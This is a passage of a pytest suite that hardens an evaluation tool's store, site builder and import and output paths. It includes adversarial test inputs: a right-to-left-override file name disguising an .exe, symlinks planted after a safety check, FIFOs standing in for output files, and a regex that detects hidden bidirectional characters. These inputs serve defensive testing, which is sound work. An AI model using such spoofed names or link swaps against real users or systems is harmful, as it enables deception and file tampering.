            f"warning: ignored {site.absolute() / '.evals-manifest.json'} "
            f'(units["{key}"].files[{json.dumps(path)}]: {reason}) and rendered every run and corpus again'
        )
    ]
    assert (tmp_path / "outside.txt").read_text(encoding="utf-8") == "outside\n"
    assert rebuild(store, site)[1:] == []


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("{not json", "invalid JSON at line 1, column 2: Expecting property name enclosed in double quotes"),
        ("[]", "not a JSON object"),
        ('{"version": 99, "units": {}}', "version: 99 is not a manifest version this build knows (2)"),
        ('{"version": 2, "units": []}', "units: not a JSON object"),
        ('{"version": 2, "units": {"run:x": {"fingerprint": NaN, "files": {}}}}', "NaN is not a number JSON allows"),
        (
            '{"version": 2, "units": {"run:x": {"fingerprint": "x", "files": {}}}}',
            'units["run:x"].fingerprint: not a SHA-256 in hex',
        ),
        (
            '{"version": 2, "units": {"run:x": {"fingerprint": "' + "a" * 64 + '", "files": {"a.html": 7}}}}',
            'units["run:x"].files["a.html"]: not a SHA-256 in hex',
        ),
        ('{"version": 2, "version": 2, "units": {}}', "key 'version' appears twice"),
    ],
)
def test_malformed_manifest_means_a_full_build_with_one_warning(built, content, reason):
    """A manifest that is not what a build writes is untrusted input: one warning saying what is wrong, a full build."""
    store, site = built
    (site / ".evals-manifest.json").write_text(content, encoding="utf-8")
    lines = rebuild(store, site)
    assert "(2 runs and corpora rendered, 0 reused)" in lines[0]
    assert lines[1:] == [
        f"warning: ignored {site.absolute() / '.evals-manifest.json'} ({reason}) and rendered every run and corpus again"
    ]


@pytest.mark.parametrize("kind", ["symlink", "fifo"])
def test_manifest_that_is_not_a_regular_file_is_not_read(built, tmp_path, kind):
    """A manifest replaced by a symlink (to a manifest outside the site) or a FIFO is not read: a full build, one warning."""
    import os

    store, site = built
    manifest = site / ".evals-manifest.json"
    if kind == "symlink":
        shutil.move(manifest, tmp_path / "elsewhere.json")
        manifest.symlink_to(tmp_path / "elsewhere.json")
    else:
        manifest.unlink()
        os.mkfifo(manifest)
    lines = rebuild(store, site)
    reason = "it is a symbolic link" if kind == "symlink" else "it is not a regular file"
    assert lines[1:] == [
        f"warning: ignored {site.absolute() / '.evals-manifest.json'} ({reason}) and rendered every run and corpus again"
    ]


def test_manifest_claiming_a_page_the_build_writes_means_a_full_build(built, tmp_path):
    """A unit listing index.html (with its true digest) would have the build write through a link into the
    old site: the build notices, renders everything again with a warning, and the old site is never written."""
    import hashlib

    store, site = built
    key, _ = run_unit(site)
    index = (site / "index.html").read_bytes()
    edit_manifest(
        site, lambda document: document["units"][key]["files"].update({"index.html": hashlib.sha256(index).hexdigest()})
    )
    old = site / "index.html"
    inode = old.stat().st_ino
    lines = rebuild(store, site)
    assert lines[1:] == [
        (
            f"warning: ignored {site.absolute() / '.evals-manifest.json'} (it lists index.html, which this build writes itself) "
            "and rendered every run and corpus again"
        )
    ]
    assert (site / "index.html").stat().st_ino != inode
    assert site_files(site) == full_build(store, tmp_path)


def test_there_is_no_verify_flag_and_the_docs_say_why():
    """Every build checks what it reuses, so build-site has no --verify; docs/site.md says so."""
    docs = (Path(__file__).parents[1] / "docs" / "site.md").read_text(encoding="utf-8")
    assert "no `--verify`" in docs
    assert "--verify" not in evals("build-site", "--help").output


# -- issue 20, item 11: non-finite numbers in the site's JSON, hidden characters on its pages ---


def strict_json(text: str):
    """``text`` parsed as standard JSON: NaN, Infinity and -Infinity are refused, as strict parsers do."""

    def refuse(constant: str):
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


@pytest.fixture
def non_finite_site(tmp_path) -> Path:
    """A site whose configuration holds NaN and -Infinity (an option ``x=nan`` stored by an older evals)."""
    import duckdb

    store = stored_store(tmp_path / "store")
    with duckdb.connect(str(store)) as connection:
        connection.execute("""UPDATE runs SET strategy_config = '{"name": "no_memory", "x": NaN, "y": -Infinity}'""")
    site = tmp_path / "site"
    result = evals("build-site", "--store", store, "--out", site)
    assert result.exit_code == 0, result.output
    return site


def test_non_finite_option_values_give_standard_json(non_finite_site):
    """Every JSON file of the site parses with a strict parser, and the non-finite values are written null."""
    import gzip

    documents = [p for p in non_finite_site.rglob("*") if p.name.endswith((".json", ".json.gz"))]
    assert len(documents) == 4  # leaderboard.json, the manifest, the run's JSON, the corpus's label suspects
    for path in documents:
        data = gzip.decompress(path.read_bytes()) if path.suffix == ".gz" else path.read_bytes()
        strict_json(data.decode("utf-8"))
    (row,) = strict_json((non_finite_site / "leaderboard.json").read_text(encoding="utf-8"))
    assert row["strategy_config"] == {"name": "no_memory", "x": None, "y": None}


def test_non_finite_option_values_in_the_csv_settings_cell_are_standard_json(non_finite_site):
    """leaderboard.csv's settings cell holds the same standard JSON as leaderboard.json."""
    (row,) = csv_rows((non_finite_site / "leaderboard.csv").read_text(encoding="utf-8"))
    assert strict_json(row["strategy_config"]) == {"name": "no_memory", "x": None, "y": None}


@pytest.mark.parametrize("command", [("leaderboard", "--format", "json"), ("runs", "--format", "json")])
def test_non_finite_option_values_give_standard_json_on_the_command_line(tmp_path, command):
    """`evals leaderboard/runs --format json` print standard JSON too: a stored NaN or -Infinity is null."""
    import duckdb

    store = stored_store(tmp_path / "store")
    with duckdb.connect(str(store)) as connection:
        connection.execute("""UPDATE runs SET strategy_config = '{"name": "no_memory", "x": NaN, "y": -Infinity}'""")
    result = evals(*command, "--store", store)
    assert result.exit_code == 0, result.output
    (row,) = strict_json(result.output)
    assert row["strategy_config"] == {"name": "no_memory", "x": None, "y": None}


HIDDEN = "\u202e\u2066\u200b\ufeff\U000e0041\x1b"  # an override, an isolate, a zero-width space, a BOM, a tag, ESC


@pytest.fixture
def hidden_site(tmp_path) -> tuple[Path, Path]:
    """A site whose conversation id, description, turns, question, fact and keyword hold hidden characters: (store, site)."""
    cid = "c\u202e1"
    corpus = corpus_of(
        tmp_path / "corpus",
        conversation(
            cid,
            description=f"gpj{HIDDEN}.exe",
            turns=[
                {"role": "user", "content": f"I use vim{HIDDEN} daily"},
                {
                    "role": "user",
                    "content": "q",
                    "test_at": {
                        "question": f"which{HIDDEN} editor?",
                        "expected_fact": f"vim{HIDDEN}",
                        "expected_keywords": ["vim"],
                    },
                },
            ],
        ),
    )
    store = tmp_path / "results.duckdb"
    assert evals("run", "--runner", "full_history", "--corpus", corpus, "--store", store).exit_code == 0
    assert evals("build-site", "--store", store, "--out", tmp_path / "site").exit_code == 0
    return store, tmp_path / "site"


def test_hidden_characters_are_shown_escaped_on_every_page(hidden_site):
    """No page holds a bidirectional control or invisible character raw: each is shown as its escape
    (in text, titles and attributes alike), where the question, the id and the turns are shown."""
    import re

    _, site = hidden_site
    pages = {p.relative_to(site).as_posix(): p.read_text(encoding="utf-8") for p in site.rglob("*.html")}
    raw = re.compile("[\u202a-\u202e\u2066-\u2069\u200b\ufeff\U000e0000-\U000e007f\x00-\x08\x0b\x0c\x0e-\x1f]")
    assert {path: raw.findall(text) for path, text in pages.items() if raw.search(text)} == {}
    escaped = "\\u202e\\u2066\\u200b\\ufeff\\U000e0041\\x1b"
    drilldown = next(text for path, text in pages.items() if path.startswith("runs/") and path.count("/") == 2)
    assert f"which{escaped} editor?" in drilldown
    run_page = next(text for path, text in pages.items() if path.startswith("runs/") and path.count("/") == 1)
    assert ">c\\u202e1</a>" in run_page


def test_hidden_characters_stay_in_the_stored_text(hidden_site):
    """Only the pages escape: the run's JSON download holds the question exactly as stored."""
    import gzip

    _, site = hidden_site
    (download,) = site.glob("runs/*.json.gz")
    document = strict_json(gzip.decompress(download.read_bytes()).decode("utf-8"))
    assert document["conversations"][0]["test_points"][0]["question"] == f"which{HIDDEN} editor?"


# -- issue 20, item 11: the store file ----------------------------------------------------------


def sqlite_file(path: Path) -> Path:
    """A real SQLite database (one table) at ``path``."""
    import sqlite3

    with sqlite3.connect(path) as con:
        con.execute("CREATE TABLE runs (run_id TEXT)")
    con.close()
    return path


@pytest.mark.parametrize("command", [["runs"], ["leaderboard"], ["run", "--runner", "no_memory", "--corpus", CORPUS_SMALL]])
def test_sqlite_file_as_the_store_is_refused_before_duckdb_reads_it(tmp_path, command):
    """A SQLite file given as --store is refused in one line naming it, with no extension fetched; it is unchanged."""
    store = sqlite_file(tmp_path / "results.duckdb")
    with unchanged(store):
        line = one_line_error(evals(*command, "--store", store))
    assert line == f"Error: {store} is a SQLite database, not a DuckDB file, so not an evals store; refusing to use it"


def test_no_duckdb_connection_fetches_or_loads_an_extension(tmp_path, store):
    """Every DuckDB connection the package opens (store, cache, a Ray worker's cache reader) has automatic
    extension install and load turned off."""
    from evals.io.cache import Cache
    from evals.run.executors._worker_cache import CacheReader
    from evals.store import Store

    def settings(con) -> tuple:
        query = "SELECT current_setting('autoinstall_known_extensions'), current_setting('autoload_known_extensions')"
        return con.execute(query).fetchall()[0]

    for read_only in (True, False):
        with Store.open(store, read_only=read_only) as opened:
            assert settings(opened._con) == (False, False)
    for cache in (Cache.open(tmp_path / "c.cache.duckdb"), Cache.in_memory()):
        with cache:
            cache.put("embedding:m", "k", b"v")
            assert settings(cache._connect()) == (False, False)
    reader = CacheReader(str(tmp_path / "c.cache.duckdb"))
    assert reader.get_many("embedding:m", ["k"]) == {"k": b"v"}
    assert settings(reader._connection) == (False, False)


def test_duckdb_is_only_connected_through_one_function():
    """No module calls duckdb.connect but evals/io/locking.py, whose open_duckdb sets the no-extension settings."""
    package = Path(__file__).resolve().parent.parent / "evals"
    calls = [
        p.relative_to(package).as_posix() for p in package.rglob("*.py") if "duckdb.connect(" in p.read_text(encoding="utf-8")
    ]
    assert calls == ["io/locking.py"]


def truncated(store: Path, size: int) -> Path:
    """``store`` cut to its first ``size`` bytes (a negative size: that many blocks of 256 KiB off its end)."""
    data = store.read_bytes()
    store.write_bytes(data[: size if size >= 0 else len(data) + size * 262_144])
    return store


@pytest.mark.parametrize("command", [["runs"], ["leaderboard"], ["run", "--runner", "no_memory", "--corpus", CORPUS_SMALL]])
@pytest.mark.parametrize("size", [5_000, 20_000, "half"])
def test_truncated_store_is_one_line_saying_so(store, command, size):
    """A store cut short at any byte is refused in one line naming it as damaged and saying to restore it; it is unchanged."""
    truncated(store, store.stat().st_size // 2 if size == "half" else size)
    with unchanged(store):
        line = one_line_error(evals(*command, "--store", store))
    assert line.startswith(f"Error: store {store} is damaged") and line.endswith(
        "restore it from a copy (nothing was written to it)"
    )


@pytest.mark.parametrize(
    "command",
    [
        ["runs"],
        ["export", "RUN"],
        ["build-site", "--out", "SITE"],
        ["run", "--runner", "full_history", "--corpus", FIXTURES / "site_corpus"],
    ],
)
def test_store_cut_at_a_block_boundary_is_one_line_saying_so(tmp_path, store, command):
    """A store cut where a block ends (which its size alone does not give away) is one line when DuckDB
    finds the data missing, for reads and appends alike; it is unchanged."""
    from evals.store import Store

    with Store.open(store, read_only=True) as opened:
        run_id = opened.runs()[0].run_id
    truncated(store, -6)
    args = [run_id if a == "RUN" else tmp_path / "site" if a == "SITE" else a for a in command]
    with unchanged(store):
        line = one_line_error(evals(*args, "--store", store))
    assert line.startswith(f"Error: store {store} is damaged (cut short") and "restore it from a copy" in line


@pytest.fixture
def small_disk(tmp_path):
    """A real 8 MB filesystem (tmpfs) to fill up; skipped where mounting one is not permitted."""
    import subprocess

    where = tmp_path / "disk"
    where.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", str(where)], capture_output=True, text=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a small tmpfs (needs root): {mounted.stderr.strip()}")
    try:
        yield where
    finally:
        subprocess.run(["umount", str(where)], check=True)


def fill(disk: Path, leave: int) -> None:
    """Fill ``disk`` but for about ``leave`` bytes."""
    free = shutil.disk_usage(disk).free
    (disk / "filler").write_bytes(b"\0" * (free - leave))


@pytest.mark.parametrize(
    "room, said",
    [
        ("for the copy, not the run", "the disk is full; the store is unchanged"),  # DuckDB's checkpoint fails part-way
        ("not even for the copy", "no room beside it for the copy"),  # refused before DuckDB writes
    ],
)
def test_append_on_a_full_disk_leaves_the_store_byte_identical(small_disk, room, said):
    """An append that runs out of disk is one line and leaves the store byte for byte as it was, with no WAL
    (nor anything else) left beside it."""
    store = small_disk / "results.duckdb"
    assert evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store).exit_code == 0
    fill(small_disk, store.stat().st_size + 64 * 1024 if room == "for the copy, not the run" else 64 * 1024)
    listing = sorted(p.name for p in small_disk.iterdir())
    with unchanged(store):
        line = one_line_error(
            evals("run", "--runner", "full_history", "--corpus", FIXTURES / "site_corpus", "--store", store, "--no-cache")
        )
    assert line.startswith(f"Error: cannot write to store {store}: ") and said in line
    assert sorted(p.name for p in small_disk.iterdir()) == listing


def test_append_past_the_file_size_limit_leaves_the_store_byte_identical(store):
    """An append that the file size limit stops part-way (RLIMIT_FSIZE: EFBIG, no root needed) is one line
    and leaves the store byte for byte as it was, with no WAL."""
    import resource
    import subprocess
    import sys

    limit = store.stat().st_size + 64 * 1024
    listing = sorted(p.name for p in store.parent.iterdir())
    with unchanged(store):
        done = subprocess.run(
            [
                sys.executable,
                "-m",
                "evals",
                "run",
                "--runner",
                "full_history",
                "--corpus",
                str(FIXTURES / "site_corpus"),
                "--store",
                str(store),
                "--no-cache",
            ],
            capture_output=True,
            text=True,
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit)),  # Python ignores SIGXFSZ
        )
    assert done.returncode == 1, done.stderr
    assert done.stderr.splitlines() == [line for line in done.stderr.splitlines() if line.startswith("Error: ")]
    assert f"Error: cannot write to store {store}: " in done.stderr and "unchanged" in done.stderr
    assert sorted(p.name for p in store.parent.iterdir()) == listing


def test_leftover_copy_of_a_killed_write_is_removed_by_the_next_append(store):
    """The copy a write keeps beside the store (left there if the writer was killed) goes at the next writable open."""
    from evals.store._undo import copy_path

    copy_path(store).write_bytes(store.read_bytes())
    assert evals("run", "--runner", "full_history", "--corpus", CORPUS_SMALL, "--store", store).exit_code == 0
    assert not copy_path(store).exists()


def test_migration_on_a_full_disk_leaves_the_store_byte_identical(small_disk):
    """Upgrading an older store on a disk too full for the new schema is one line; the store is byte for byte as it was."""
    import gzip

    store = small_disk / "results.duckdb"
    store.write_bytes(gzip.decompress((FIXTURES / "stores" / "schema5.duckdb.gz").read_bytes()))
    fill(small_disk, store.stat().st_size + 64 * 1024)
    with unchanged(store):
        line = one_line_error(evals("migrate", "--store", store))
    assert (
        line.startswith(f"Error: cannot upgrade store {store} to schema ") and "the disk is full; the store is unchanged" in line
    )
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler", "results.duckdb"]


def test_new_store_on_a_full_disk_is_not_left_half_made(small_disk):
    """Creating a store on a disk too full for its schema is one line, and leaves no file behind."""
    fill(small_disk, 64 * 1024)
    line = one_line_error(
        evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", small_disk / "new.duckdb", "--no-cache")
    )
    assert "the disk is full" in line
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler"]


# -- issue 20, item 1: --output never replaces the store, its cache or a file the command reads --


def assert_refused_output(result, output: Path, exit_code: int = 1) -> str:
    """One ``Error:`` line naming ``output``, exit ``exit_code``."""
    line = one_line_error(result, exit_code)
    assert str(output) in line, line
    return line


@pytest.mark.parametrize("name", ["results.duckdb", "results.cache.duckdb", "results.duckdb.wal", "results.cache.duckdb.wal"])
def test_run_output_that_is_a_store_file_is_refused(store, name, no_work):
    """evals run --output naming the store, its cache or either's write-ahead log is refused before any work."""
    output = store.parent / name
    with unchanged(store):
        line = assert_refused_output(
            evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, "--output", output), output
        )
    assert "store" in line or "cache" in line


def test_run_output_spelled_differently_is_still_the_store(store, no_work):
    """The store named through `sub/..` is the same file: compared as files, not strings."""
    (store.parent / "sub").mkdir()
    output = store.parent / "sub" / ".." / store.name
    with unchanged(store):
        assert_refused_output(
            evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, "--output", output), output
        )


def test_run_output_hard_link_to_the_store_is_refused(store, no_work):
    """A hard link to the store (same device and inode, another name) is the store."""
    output = store.parent / "linked.json"
    output.hardlink_to(store)
    with unchanged(store):
        assert_refused_output(
            evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, "--output", output), output
        )


def test_run_output_into_a_new_store_path_is_refused(tmp_path, no_work):
    """--output equal to a --store that does not exist yet is refused too (the run would create the store, then overwrite it)."""
    store = tmp_path / "new.duckdb"
    assert_refused_output(
        evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, "--output", store), store
    )
    assert not store.exists()


def test_export_output_that_is_the_store_is_refused(store):
    """evals export --output naming the store it reads is refused, the store left as it was."""
    run_id = evals("runs", "--store", store, "--format", "json")
    run_id = json.loads(run_id.output)[0]["run_id"]
    with unchanged(store):
        assert_refused_output(evals("export", run_id, "--store", store, "--output", store), store)


def test_legacy_output_that_is_the_store_is_refused(store):
    """python -m evals --output naming $EVALS_STORE's cache is refused: the original CLI writes beside it with answers."""
    from evals.cli import legacy_cli

    cache = store.parent / "results.cache.duckdb"
    cache.write_bytes(b"not really a cache")
    with unchanged(store):
        result = CliRunner().invoke(legacy_cli, ["--runner", "no_memory", "--corpus", str(CORPUS_SMALL), "--output", str(cache)],
                                    env={"EVALS_STORE": str(store)})
        assert_refused_output(result, cache)


@pytest.mark.parametrize("name", ["002_pet.json", "references.json", "new.json"])
def test_run_output_in_the_corpus_folder_is_refused(tmp_path, store, name, no_work):
    """An --output that is a corpus file, its references.json or a new *.json in the corpus folder is refused."""
    corpus = tmp_path / "corpus"
    shutil.copytree(CORPUS_SMALL, corpus)
    write_json(corpus / "references.json", [])
    before = {p.name: p.read_bytes() for p in corpus.iterdir()}
    with unchanged(store):
        result = evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store, "--output", corpus / name)
        assert_refused_output(result, corpus / name)
    assert {p.name: p.read_bytes() for p in corpus.iterdir()} == before


def test_gate_step_summary_that_is_the_store_is_refused(store):
    """$GITHUB_STEP_SUMMARY naming the store: gate refuses (exit 2) rather than append its report to it."""
    run_id = json.loads(evals("runs", "--store", store, "--format", "json").output)[0]["run_id"]
    with unchanged(store):
        result = evals("gate", "--base", run_id, "--head", run_id, "--store", store, env={"GITHUB_STEP_SUMMARY": str(store)})
        assert_refused_output(result, store, exit_code=2)


# -- issue 20, item 2: --output is a regular file or a new path, never a device, FIFO or link -----


def test_run_output_to_dev_null_is_refused(store, no_work):
    """--output /dev/null is refused (as root it would be replaced by a regular file), and stays a device."""
    import stat

    with unchanged(store):
        line = assert_refused_output(
            evals("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, "--output", "/dev/null"),
            Path("/dev/null"),
        )
    assert "character device" in line
    assert stat.S_ISCHR(Path("/dev/null").stat().st_mode)


def test_export_output_to_a_fifo_is_refused(tmp_path, store):
    """evals export --output FIFO is refused in one line (no hang, no file in its place)."""
    import os
    import stat

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    run_id = json.loads(evals("runs", "--store", store, "--format", "json").output)[0]["run_id"]
    line = assert_refused_output(evals("export", run_id, "--store", store, "--output", fifo), fifo)
    assert "FIFO" in line and stat.S_ISFIFO(fifo.lstat().st_mode)


def test_legacy_output_through_a_symlink_is_refused(tmp_path):
    """python -m evals --output LINK (to a regular file) is refused: the file it points to is left as it was."""
    from evals.cli import legacy_cli

    target = write_json(tmp_path / "precious.txt", "keep me")
    link = tmp_path / "out.json"
    link.symlink_to(target)
    result = CliRunner().invoke(legacy_cli, ["--runner", "no_memory", "--corpus", str(CORPUS_SMALL), "--output", str(link)],
                                env={"EVALS_STORE": str(tmp_path / "s.duckdb")})
    assert "symbolic link" in assert_refused_output(result, link)
    assert link.is_symlink() and target.read_text() == "keep me"


def test_write_output_never_writes_through_a_link_planted_after_the_check(tmp_path):
    """A symlink that appears at the output path after the up-front check is refused at write time, not followed."""
    from evals.io.outputs import OutputError, check_output, write_output

    target = write_json(tmp_path / "precious.txt", "keep me")
    output = tmp_path / "out.json"
    check_output(output)
    output.symlink_to(target)
    with pytest.raises(OutputError, match="symbolic link"):
        write_output(output, b"{}")
    assert target.read_text() == "keep me"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_write_output_replaces_a_regular_file_and_keeps_its_mode(tmp_path):
    """An existing regular file is replaced whole, keeping its permissions; a new path is created with its folders."""
    from evals.io.outputs import write_output

    existing = write_json(tmp_path / "old.json", "old")
    existing.chmod(0o640)
    write_output(existing, b"new")
    assert existing.read_bytes() == b"new" and existing.stat().st_mode & 0o777 == 0o640
    write_output(tmp_path / "a" / "b.json", b"{}")
    assert (tmp_path / "a" / "b.json").read_bytes() == b"{}"


# -- issue 20, item 6: references.json is range-checked up front -----------------------------------


def huge_k_corpus(tmp_path: Path) -> Path:
    """corpus_small with a references.json whose k (2**32) no store column can hold."""
    corpus = tmp_path / "corpus"
    shutil.copytree(CORPUS_SMALL, corpus)
    reference = {"label": "paper", "citation": "c", "metric": "recall_any", "level": "turn", "k": 4294967296, "value": 0.5}
    write_json(corpus / "references.json", [reference])
    return corpus


def test_validate_reports_a_reference_k_beyond_the_cutoff_range(tmp_path):
    """validate names references.json, the field and the bound for k = 2**32."""
    corpus = huge_k_corpus(tmp_path)
    from evals.model.corpus import MAX_CUTOFF

    assert validate_problems(corpus) == [
        f"{corpus / 'references.json'}: [0].k: "
        f"must be at most {MAX_CUTOFF} (the deepest cutoff a run measures at), got 4294967296"
    ]


def test_run_refuses_a_reference_k_beyond_the_cutoff_range_before_playing(tmp_path, store):
    """run refuses the corpus as it loads it, before playing, in one line, the store unchanged."""
    corpus = huge_k_corpus(tmp_path)
    with unchanged(store):
        line = one_line_error(evals("run", "--runner", "no_memory", "--corpus", corpus, "--store", store))
    assert "references.json: [0].k: must be at most" in line


def test_import_refuses_a_reference_k_beyond_the_cutoff_range(tmp_path, store):
    """An export whose run.references holds k = 2**32 is refused by import, naming the field."""
    document = exported_run(tmp_path)
    document["run"]["references"] = [
        {"label": "paper", "citation": "c", "metric": "recall_any", "level": "turn", "k": 4294967296, "value": 0.5, "note": None}
    ]
    assert "run.references[0].k: must be at most" in refused_import(store, document, tmp_path)


def test_importers_write_references_that_validate():
    """The published figures the importers write are within every range validate checks."""
    from evals.benchmarks.locomo import importer as locomo
    from evals.benchmarks.longmemeval import importer as longmemeval
    from evals.model.corpus import Reference

    for reference in [*locomo.REFERENCES, *longmemeval.REFERENCES]:
        assert Reference.model_validate(reference.model_dump()) == reference


# -- issue 20, item 9: Ray connects within a bounded time; Ctrl-C exits 130 with nothing stored -----

PLUGINS = Path(__file__).parent / "plugins"


def evals_process(*args: str, cwd: Path, env: dict | None = None, sigint_ignored: bool = False):
    """``python -m evals ARGS`` as a child process (tests/plugins on its path), stdout and stderr captured;
    ``sigint_ignored``: started with SIGINT ignored, as a shell script starts a command in the background."""
    import os
    import signal
    import subprocess
    import sys

    path = os.pathsep.join([str(PLUGINS), str(Path(__file__).resolve().parent.parent), os.environ.get("PYTHONPATH", "")])
    return subprocess.Popen(
        [sys.executable, "-m", "evals", *map(str, args)],
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": path, **(env or {})},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=(lambda: signal.signal(signal.SIGINT, signal.SIG_IGN)) if sigint_ignored else None,
    )


def finished(child, timeout: float) -> tuple[str, str]:
    """The child's stdout and stderr once it ends; it is killed if it is still running after ``timeout`` seconds."""
    try:
        return child.communicate(timeout=timeout)
    finally:
        if child.poll() is None:
            child.kill()


def interrupted_run(tmp_path: Path, store: Path, *executor: str, sigint_ignored: bool = False) -> tuple[int, str, float]:
    """Start a slow run, wait until it is retrieving, send SIGINT: its exit code, stderr and seconds to exit."""
    import signal
    import time

    marker = tmp_path / "retrieving"
    child = evals_process(
        "run", "--runner", "sleepy_strategy:SPEC", "--option", "seconds=120", "--option", f"marker={marker}",
        "--corpus", CORPUS_SMALL, "--store", store, "--force", *executor, cwd=tmp_path, sigint_ignored=sigint_ignored,
    )
    try:
        deadline = time.monotonic() + 120
        while not marker.exists() and child.poll() is None and time.monotonic() < deadline:
            time.sleep(0.2)
        assert marker.exists(), child.communicate(timeout=5)
        started = time.monotonic()
        child.send_signal(signal.SIGINT)
        _, err = child.communicate(timeout=30)
        return child.returncode, err, time.monotonic() - started
    finally:
        if child.poll() is None:
            child.kill()
            child.communicate()


@pytest.mark.slow
def test_ctrl_c_during_a_local_run_exits_130_with_nothing_stored(tmp_path, store):
    """SIGINT while the local executor plays: exit 130 within seconds, one line, the store byte for byte as it was."""
    with unchanged(store):
        code, err, seconds = interrupted_run(tmp_path, store)
    assert (code, err.splitlines()) == (130, ["Interrupted."])
    assert seconds < 10


@pytest.mark.slow
def test_sigint_reaches_a_run_started_in_the_background_of_a_script(tmp_path, store):
    """`kill -INT` to a run a script started with `&` (SIGINT ignored, as the shell hands it) still exits 130, storing nothing."""
    with unchanged(store):
        code, err, _ = interrupted_run(tmp_path, store, sigint_ignored=True)
    assert (code, err.splitlines()) == (130, ["Interrupted."])


@pytest.mark.slow
def test_ctrl_c_during_a_ray_run_exits_130_with_nothing_stored(tmp_path, store):
    """SIGINT while Ray tasks play: the tasks are cancelled, exit 130 within seconds, the store byte for byte as it was."""
    pytest.importorskip("ray", reason="needs the ray extra")
    with unchanged(store):
        code, err, seconds = interrupted_run(tmp_path, store, "--executor", "ray")
    assert code == 130 and err.splitlines()[-1] == "Interrupted.", err
    assert seconds < 15


@pytest.mark.slow
def test_ray_address_where_nothing_answers_fails_fast(tmp_path, store):
    """--ray-address 127.0.0.1:1: one line naming the address and --ray-address within seconds, not a hang."""
    import time

    pytest.importorskip("ray", reason="needs the ray extra")
    started = time.monotonic()
    child = evals_process("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store,
                          "--executor", "ray", "--ray-address", "127.0.0.1:1", cwd=tmp_path)
    out, err = finished(child, timeout=60)
    assert time.monotonic() - started < 20
    assert child.returncode == 1 and out == ""
    [line] = err.splitlines()
    assert line.startswith("Error: cannot reach Ray at 127.0.0.1:1 (from --ray-address): nothing answers there"), line


@pytest.mark.slow
def test_ray_address_that_answers_but_is_not_ray_fails_within_the_timeout(tmp_path, store):
    """RAY_ADDRESS naming a port that accepts connections but is no Ray cluster: one line within about 20 s."""
    import socket
    import time

    pytest.importorskip("ray", reason="needs the ray extra")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(16)
        address = f"127.0.0.1:{listener.getsockname()[1]}"
        started = time.monotonic()
        child = evals_process("run", "--runner", "no_memory", "--corpus", CORPUS_SMALL, "--store", store, "--executor", "ray",
                              cwd=tmp_path, env={"RAY_ADDRESS": address})
        out, err = finished(child, timeout=90)
    assert time.monotonic() - started < 25
    [line] = err.splitlines()
    assert line.startswith(f"Error: cannot join Ray at {address} (from RAY_ADDRESS): no Ray cluster answered within"), line


# -- issue 20, item 11: unknown fields in an import file are refused -------------------------------


@pytest.mark.parametrize(
    "edit, where",
    [
        (lambda d: d.__setitem__("comment", "hi"), "comment"),
        (lambda d: d["run"].__setitem__("note", 1), "run.note"),
        (lambda d: d["run"]["conversations"][0]["turns"][0].__setitem__("speaker", "x"), "run.conversations[0].turns[0].speaker"),
        (lambda d: d["conversations"][0]["test_points"][0].__setitem__("score", 1), "conversations[0].test_points[0].score"),
        (lambda d: d["metrics"]["recall_at_k"].__setitem__("extra", 1), "metrics.recall_at_k.extra"),
    ],
    ids=["top-level", "run-block", "run-turn", "test-point", "metrics"],
)
def test_unknown_key_in_an_import_file_is_refused(tmp_path, store, edit, where):
    """A key an export does not define, anywhere in the file, is refused naming the file and its JSON path."""
    document = exported_run(tmp_path)
    edit(document)
    line = refused_import(store, document, tmp_path)
    assert f"{tmp_path / 'import.json'}: " in line and f"{where}: unknown field" in line, line


def test_unknown_measured_metric_in_an_import_file_is_refused(tmp_path, store):
    """run.measured naming a metric this evals does not know is refused, not dropped."""
    document = exported_run(tmp_path)
    document["run"]["measured"]["made_up_metric"] = {"value": 1.0, "n": 1, "low": None, "high": None}
    assert "run.measured.made_up_metric: 'made_up_metric' is not a metric" in refused_import(store, document, tmp_path)


def test_unknown_key_in_a_measured_value_is_one_line(tmp_path, store):
    """An extra key inside a run.measured value is refused in one line (it was a TypeError traceback)."""
    document = exported_run(tmp_path)
    name = next(iter(document["run"]["measured"]))
    document["run"]["measured"][name]["extra"] = 1
    assert f"run.measured.{name}.extra: unknown field" in refused_import(store, document, tmp_path)


def test_exports_written_by_an_earlier_version_still_import(tmp_path):
    """The files `evals export` wrote at 44774b5 (tests/fixtures/exports) have no key today's import calls unknown."""
    import tarfile

    with tarfile.open(FIXTURES / "exports" / "exports-44774b5.tar.gz") as archive:
        archive.extractall(tmp_path / "old", filter="data")
    files = sorted((tmp_path / "old").glob("*.json"))
    result = evals("import", *files, "--store", tmp_path / "new.duckdb")
    assert result.exit_code == 0, result.output
    assert result.output.count("imported run") == len(files) == 5
